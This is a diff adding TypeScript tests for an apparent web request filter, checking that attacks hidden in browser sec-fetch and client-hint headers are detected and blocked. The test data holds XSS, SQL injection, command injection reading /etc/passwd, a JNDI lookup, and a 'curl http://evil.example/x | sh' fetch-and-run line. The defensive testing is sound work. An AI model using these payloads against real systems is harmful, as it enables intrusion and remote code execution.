@@ -110,3 +110,59 @@ describe("plain header values remembered from request to request", () => {
   });
 });
 
+
+// A browser's fetch metadata and client hints (sec-fetch-*, sec-ch-ua*) are common names too: the same
+// on each request of a session, so shared and remembered plain like the ones above. An attack in one
+// of them, right after the clean value (or with the same length), is still inspected.
+describe("browser fetch metadata and client hints shared from request to request", () => {
+  const BROWSER: [string, string][] = [
+    ["sec-fetch-site", "same-origin"],
+    ["sec-fetch-mode", "navigate"],
+    ["sec-fetch-dest", "document"],
+    ["sec-fetch-user", "?1"],
+    ["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
+    ["sec-ch-ua-mobile", "?0"],
+    ["sec-ch-ua-platform", '"Windows"'],
+  ];
+  const ATTACK: Record<string, string> = {
+    "sec-fetch-site": "same-origin<script>alert(document.domain)</script>",
+    "sec-fetch-mode": "navigate; cat /etc/passwd",
+    "sec-fetch-dest": "document' UNION SELECT password FROM users --",
+    "sec-fetch-user": "${jndi:ldap://evil.example/a}",
+    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="1\' OR \'1\'=\'1\' --", "Not-A.Brand";v="99"',
+    "sec-ch-ua-mobile": "?0<svg/onload=alert(1)>",
+    "sec-ch-ua-platform": '"Windows"; curl http://evil.example/x | sh',
+  };
+
+  it("are plain again, and an attack under the same name right after is inspected", async () => {
+    const em = await loadFilter({ mode: "detect" });
+    for (let round = 0; round < 2; round++) {
+      for (const [name, value] of BROWSER) {
+        const steps: [[string, string][], boolean][] = [
+          [BROWSER, false],
+          [BROWSER, false],
+          [BROWSER.map(([k, v]): [string, string] => [k, k == name ? ATTACK[k] : v]), true],
+          [BROWSER, false],
+          // the same bytes under a name with no plain shape: a target, found clean
+          [[...BROWSER, ["x-note", value]], false],
+        ];
+        for (const [headers, found] of steps) {
+          const rules = filterRules(em, get(headers));
+          expect(rules, JSON.stringify(headers)).toEqual(harnessRules(h, get(headers)));
+          expect(rules.length > 0, JSON.stringify(headers)).toBe(found);
+        }
+      }
+    }
+  });
+
+  it("block a value of the same length as the clean one it follows", async () => {
+    const em = await loadFilter({ mode: "block" });
+    const clean = BROWSER.find(([k]) => k == "sec-ch-ua")![1];
+    const attack = '"Chromium";v="124", <script>alert(1)</script>'.padEnd(clean.length, "x");
+    expect(attack.length).toBe(clean.length);
+    for (let i = 0; i < 3; i++) {
+      expect(runRequest(em, get([["sec-ch-ua", clean]])).blocked).toBe(false);
+      expect(runRequest(em, get([["sec-ch-ua", attack]])).blocked).toBe(true);
+    }
+  });
+});
